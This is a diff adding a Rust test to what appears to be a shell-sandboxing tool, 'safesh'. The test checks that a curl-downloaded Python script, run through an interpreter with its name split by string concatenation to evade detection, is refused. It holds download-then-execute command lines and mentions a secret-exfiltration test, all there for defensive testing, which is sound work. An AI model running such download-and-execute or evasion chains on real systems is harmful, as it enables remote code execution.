@@ -219,6 +219,31 @@ fn a_program_executes_a_downloaded_file_itself() {
 }
 
 #[test]
+fn a_program_starts_an_interpreter_on_a_downloaded_script() {
+    // `python3 dl.py` from inside the run: the same exec commit point as when
+    // safesh starts it (the script file, and `-m` modules, are code).
+    for run in [
+        r#"python3 -c 'import subprocess, sys; subprocess.run([sys.executable, "d" + "l.py"])'"#,
+        r#"python3 -c 'import subprocess, sys; subprocess.run([sys.executable, "-m", "d" + "l"])'"#,
+    ] {
+        let a = arena();
+        let r = refused(
+            &a,
+            &format!("curl -s {{URL}}/code.py -o dl.py\n{run}"),
+            FLOW,
+        );
+        assert!(!a.exists(PWNED), "the download ran:\n{}", r.dump());
+        let a = arena();
+        let r = benign(
+            &a,
+            &format!("printf 'open(\"pwned\",\"w\").write(\"x\")\\n' > dl.py\n{run}"),
+            None,
+        );
+        ran_payload(&a, &r);
+    }
+}
+
+#[test]
 fn python_copies_a_named_secret_then_curl_sends_the_copy() {
     // A secret named in argv is given (visible, labels the run); what the program
     // writes from it stays secret.
